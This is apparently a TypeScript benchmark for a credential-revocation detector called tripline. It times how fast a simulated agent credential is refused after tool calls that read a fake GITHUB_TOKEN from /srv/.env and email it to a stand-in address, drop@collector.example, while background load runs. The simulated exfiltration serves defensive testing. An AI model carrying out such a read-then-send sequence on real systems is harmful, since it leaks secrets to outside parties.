/**
 * From the call that completes a pattern to the first refused call of its credential, while 2,000 calls/s go through
 * the same installation. Each sample is a credential of its own that reads a secret, sends it out, and then calls on
 * every few ms, through a real interceptor over real HTTP. Prints a BenchResult as JSON.
 */
import { fork } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { type CallStart, connectInterceptor } from "@tripline/interceptor";
import { startStandalone } from "../test/support/standalone.ts";
import { type BenchResult, quantile } from "./result.ts";

const SAMPLES = Number(process.env.BENCH_SAMPLES ?? 900); // over three minutes: the detector writes its state now and then
const WARM_UP = 10; // not counted: the first ones compile the code
const RATE = 2_000; // calls/s beside the samples
const BATCH_RECORDS = 10; // small, so that the load comes evenly
const SAMPLE_EVERY_MS = 200;
const LOOK_EVERY_MS = 1;
const GIVE_UP_MS = 10_000;
const NOBODY = { session: undefined, agent: undefined, server: "", tool: "", principals: [] };
const RULE = "secret-read-then-sent";

const folder = mkdtempSync(join(tmpdir(), "tripline-refusal-"));
const data = join(folder, "data");
mkdirSync(data, { mode: 0o700 });
writeFileSync(
  join(data, "response.yaml"),
  `automatic_revocation:\n  limit: { keys: 1000, minutes: 1 }\n  rules:\n    ${RULE}: { enabled: true }\n`,
  { mode: 0o600 },
);
const server = await startStandalone({ data });
try {
  const enrol = async (body: object): Promise<string> => {
    const { key } = await server.json<{ key: string }>("/v1/producers", {
      method: "POST",
      body: JSON.stringify(body),
    });
    return key;
  };
  const credentials = Array.from({ length: SAMPLES + WARM_UP }, (_, n) => `local:victim-${n}`);
  const victims = await enrol({ id: "victims", issuers: ["local"], credentials });
  const background = await enrol({ id: "bench", issuers: ["local"], quota: 1_000_000 });

  const seconds = ((SAMPLES + WARM_UP) * SAMPLE_EVERY_MS) / 1000 + GIVE_UP_MS / 1000;
  const sender = fork(new URL("./pipeline-sender.ts", import.meta.url), [
    server.url,
    background,
    String(seconds),
    String(RATE),
    String(BATCH_RECORDS),
  ]);
  const interceptor = await connectInterceptor({
    url: server.url,
    ingestKey: victims,
    stateDir: join(folder, "interceptor"),
  });

  const samples: number[] = [];
  let missed = 0;
  const running: Promise<void>[] = [];
  for (const [n, credential] of credentials.entries()) {
    const sample = timeToRefusal(credential).then((ms) => {
      if (n < WARM_UP) return;
      if (ms === null) missed++;
      else samples.push(ms);
    });
    running.push(sample);
    await delay(SAMPLE_EVERY_MS);
  }
  await Promise.all(running);
  sender.kill();
  await interceptor.close();

  const result: BenchResult = {
    bench: "refusal at 2,000 calls/s",
    figures: [
      { name: "samples", value: samples.length, unit: "" },
      { name: "never refused", value: missed, unit: "", goal: { at_most: 0 } },
      {
        name: "completing call to refusal p50",
        value: quantile(samples, 0.5),
        unit: "ms",
        goal: { at_most: 20 },
      },
      {
        name: "completing call to refusal p99",
        value: quantile(samples, 0.99),
        unit: "ms",
        goal: { at_most: 100 },
      },
      { name: "completing call to refusal, worst", value: Math.max(...samples), unit: "ms" },
    ],
  };
  console.log(JSON.stringify(result));

  async function timeToRefusal(credential: string): Promise<number | null> {
    const secret = `ghp_${Buffer.from(credential.padEnd(27, "x")).toString("hex").slice(0, 36)}`;
    const start = (server: string, tool: string, args: unknown): CallStart => ({
      caller: { credential, assurance: "verified" },
      session: { id: credential, source: "mcp" },
      target: { server, tool, transport: "in_process" },
      method: "tools/call",
      args,
    });
    call(start("files", "read_file", { path: "/srv/.env" }), `GITHUB_TOKEN=${secret}`);
    const completed = performance.now();
    call(start("mail", "send_email", { to: "drop@collector.example", body: secret }), "sent");
    while (performance.now() - completed < GIVE_UP_MS) {
      await delay(LOOK_EVERY_MS);
      if (interceptor.denyList.check({ ...NOBODY, credential }) === null) continue;
      if (!call(start("files", "list_directory", { path: "/srv" }), "a b c"))
        return performance.now() - completed;
    }
    return null;
  }

  /** One call; false when it was refused. */
  function call(start: CallStart, text: string): boolean {
    const verdict = interceptor.begin(start);
    if (verdict.kind === "deny") return false;
    verdict.call.end({ outcome: "ok", text, bytes: text.length, items: 1 });
    return true;
  }
} finally {
  await server.dispose();
  rmSync(folder, { recursive: true, force: true });
}
